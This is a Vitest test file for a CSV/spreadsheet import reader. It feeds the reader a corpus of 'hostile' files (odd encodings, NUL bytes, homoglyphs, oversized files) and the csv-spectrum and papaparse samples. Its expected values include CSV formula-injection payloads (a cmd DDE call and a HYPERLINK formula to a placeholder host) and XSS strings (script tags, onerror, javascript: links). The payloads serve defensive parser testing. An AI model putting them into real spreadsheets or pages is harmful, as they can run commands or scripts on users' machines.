import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { basename, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { readSource } from '../../../../src-main/file/read-source.ts'
import type { Refusal } from '../../../../src-shared/file/problem.ts'
import type { Result } from '../../../../src-shared/material/values/result.ts'
import type { SourceContents } from '../../../../src-shared/file/source.ts'
import { draftsOf, mapped, mappingOf, told, toldByDrafts, valuesOf } from '../../../sheets.ts'
import { cellsOf } from './read.ts'
import { processorTime } from '../../../processor-time.ts'

const root = join(import.meta.dirname, '../../../..')
const corpus = join(root, 'shared/corpus')
const here = existsSync(join(corpus, 'INDEX.tsv'))
const reason = here ? '' : ' (skipped: ../shared/corpus is not here)'

const table: string[] = []

function read(file: string): Promise<Result<SourceContents, Refusal>> {
  return readSource({ name: basename(file), path: join(corpus, file) }, {}, {})
}

/** The file in one line: encoding, lines and cells, messages; or the refusal. */
async function got(file: string): Promise<string> {
  const result = await read(file)
  if (!result.ok) return `refused: ${result.error.code}${result.error.row === null ? '' : ` line ${result.error.row}`}`
  const { sheet, format } = result.value
  const mapping = mappingOf(sheet)
  const drafts = draftsOf(sheet)
  const values = [...drafts.columns.values()].map(
    (column) => `${column.field} ${JSON.stringify(valuesOf(drafts, column.field))}`,
  )
  const problems = [...told(mapping.problems), ...toldByDrafts(drafts)]
  return [
    format.kind === 'csv' ? `${format.encoding} ${format.delimiter}` : format.kind,
    mapped(mapping),
    `rows ${[...drafts.fileRows].join(',') || 'none'}`,
    ...values,
    ...(problems.length > 0 ? [`told: ${problems.join(', ')}`] : []),
  ].join(' · ')
}

const SAME_AS_C01 =
  'name@A sku@B price@C · rows 2,3 · name ["Болт М6×20 «цинк»","Ёмкость № 5"] · sku ["00123","А-7"] · price ["1.5","12"]'

/** What INDEX.tsv expects, in the format of `got`. */
const EXPECTED: readonly (readonly [string, string])[] = [
  ['hostile/c02_utf16le_bom.csv', `utf-16le ; · ${SAME_AS_C01}`],
  ['hostile/c04_utf16le_nobom.csv', `utf-16le ; · ${SAME_AS_C01}`],
  [
    'hostile/c06_windows1252.csv',
    'windows-1252 ; · name@A price@B · rows 2,3 · name ["“Größe” Schraube – 5 €","Café"] · price ["1.5","2.5"]',
  ],
  [
    'hostile/c08_koi8r.csv',
    'koi8-r ; · name@A sku@B price@C · rows 2,3 · name ["Болт М6x20 \\"цинк\\"","Ёмкость N 5"] · sku ["00123","А-7"] · price ["1.5","12"] · told: A2 mixed-scripts',
  ],
  ['hostile/c10_mixed_utf8_then_cp1251.csv', 'refused: bad-encoding line 3'],
  [
    'hostile/c12_nul_bytes.csv',
    'utf-8 , · name@A sku@B · rows 2,3 · name ["",""] · sku ["1","2"] · told: A2 control-character!, A3 control-character!',
  ],
  [
    'hostile/c14_lf_header_crlf_rows.csv',
    'utf-8 , · name@A sku@B · rows 2,3,4 · name ["A","B","C"] · sku ["1","2","3"]',
  ],
  [
    'hostile/c16_decimal_comma.csv',
    'utf-8 ; · name@A price@B stock@C · rows 2,3,4,5 · name ["A","B","C","D"] · price ["","","",""] · stock ["1234.5","1234","1000","0"] · told: B mixed-decimals, B2 ambiguous-number!, B3 ambiguous-number!, B4 ambiguous-number!, B5 ambiguous-number!',
  ],
  ['hostile/c18_inch_quotes.csv', 'utf-8 , · name@A · rows 2,3 · name ["screw","nut"] · told: B unmapped-column'],
  [
    'hostile/c20_formula_injection.csv',
    'utf-8 , · name@A notes@B · rows 2,3,5,6,8 · name ["=cmd|\' /C calc\'!A0","=1+1\\nsecond line","@SUM(1)","＝1+1","=HYPERLINK(\\"http://x/?\\"&A1)"] · notes ["+1","-2+3","\\t=1","\\n=1","\'=1"]',
  ],
  [
    'hostile/c22_dup_headers.csv',
    'utf-8 , · price@C · rows 2 · price ["1"] · told: A duplicate-header, B duplicate-header, D unmapped-column',
  ],
  ['hostile/c24_wide_16385_columns.csv', 'refused: too-many-columns line 1'],
  ['hostile/c26_zero_bytes.csv', 'refused: empty-file'],
  ['hostile/c28_header_only.csv', 'utf-8 , · name@A sku@B · rows none · name [] · sku []'],
  [
    'hostile/c30_multiline_numbers.csv',
    'utf-8 , · name@A notes@B · rows 2,4,7 · name ["A\\nB","Bad","C"] · notes ["1","x\\ny\\nz","9"]',
  ],
  ['hostile/c32_nfc_nfd.csv', 'utf-8 , · name@A sku@B · rows 2,3 · name ["Café","Café"] · sku ["1","2"]'],
  [
    'hostile/c34_homoglyph.csv',
    'utf-8 , · sku@A name@B · rows 2,3 · sku ["A1","А1"] · name ["Bolt","Bolt"] · told: A3 mixed-scripts',
  ],
  [
    'hostile/c36_html.csv',
    'utf-8 , · name@A notes@B · rows 2,3 · name ["<img src=x onerror=alert(1)>","javascript:alert(1)"] · notes ["<script>alert(1)</script>","[x](javascript:alert(1))"]',
  ],
  ['hostile/x44_csv_renamed.xlsx', `utf-8 ; · ${SAME_AS_C01}`],
]

describe.skipIf(!here)(`hostile files${reason}`, () => {
  test.each(EXPECTED)('%s', async (file, expected) => {
    const start = processorTime()
    const foundText = await got(file)
    table.push(`| ${file} | ${expected} | ${foundText === expected ? 'the same' : foundText} |`)
    expect(foundText).toBe(expected)
    expect(processorTime() - start).toBeLessThan(2000)
  })

  test('every delimited hostile file is in the table above', () => {
    const files = readdirSync(join(corpus, 'hostile')).filter((name) => name.endsWith('.csv'))
    expect(files.filter((name) => !EXPECTED.some(([file]) => file === `hostile/${name}`))).toEqual([])
  })
})

const SPECTRUM = join(corpus, 'csv-spectrum')
const spectrum = here ? readdirSync(join(SPECTRUM, 'csvs')).map((name) => name.slice(0, -4)) : ['none']

describe.skipIf(!here)(`csv-spectrum${reason}`, () => {
  test.each(spectrum)('%s', async (name) => {
    const result = await read(`csv-spectrum/csvs/${name}.csv`)
    if (!result.ok) throw new Error(result.error.code)
    const [header = [], ...rows] = cellsOf(result.value.sheet)
    const records = rows.map((row) => Object.fromEntries(header.map((heading, column) => [heading, row[column] ?? ''])))
    // Line breaks in cells are \n here. The fixture of location_coordinates has a different phone number than its file (INDEX.tsv).
    const fixture = readFileSync(join(SPECTRUM, 'json', `${name}.json`), 'utf8')
      .replaceAll('\\r\\n', '\\n')
      .replace('1234567890', '2095257564')
    const parseResult: unknown = JSON.parse(fixture)
    const expected: unknown = Array.isArray(parseResult) ? parseResult : [parseResult]
    table.push(
      `| csv-spectrum/csvs/${name}.csv | == json/${name}.json | ${JSON.stringify(records) === JSON.stringify(expected) ? 'the same' : 'differs'} |`,
    )
    expect(records).toEqual(expected)
  })
})

describe.skipIf(!here)(`papaparse's own files${reason}`, () => {
  test.each([
    ['papaparse/tests/sample.csv', 'A,B,C/X,Y,Z'],
    ['papaparse/tests/utf-8-bom-sample.csv', 'A,B,C/X,Y,Z'],
    ['papaparse/tests/sample-header.csv', 'title,name/test title 01,test name 01/,test name 02'],
    ['papaparse/tests/long-sample.csv', '8 rows of 7'],
    ['papaparse/tests/verylong-sample.csv', '2001 rows of 3'],
    ['papaparse/docs/resources/files/normal.csv', '1136 rows of 9'],
    ['papaparse/docs/resources/files/malformed.tsv', 'refused: unterminated-quote line 9'],
  ])('%s', async (file, expected) => {
    const result = await read(file)
    const foundText = result.ok
      ? result.value.sheet.rowCount > 5
        ? `${result.value.sheet.rowCount} rows of ${result.value.sheet.columns.length}`
        : cellsOf(result.value.sheet).join('/')
      : `refused: ${result.error.code} line ${result.error.row}`
    table.push(`| ${file} | ${expected} | ${foundText === expected ? 'the same' : foundText} |`)
    expect(foundText).toBe(expected)
  })
})

test.skipIf(!here)(`the table of the corpus is kept for reading${reason}`, () => {
  const folder = join(import.meta.dirname, '../../../../.cache')
  mkdirSync(folder, { recursive: true })
  writeFileSync(join(folder, 'corpus-csv.md'), `| file | expected | got |\n|---|---|---|\n${table.join('\n')}\n`)
  expect(table.length).toBeGreaterThan(30)
})
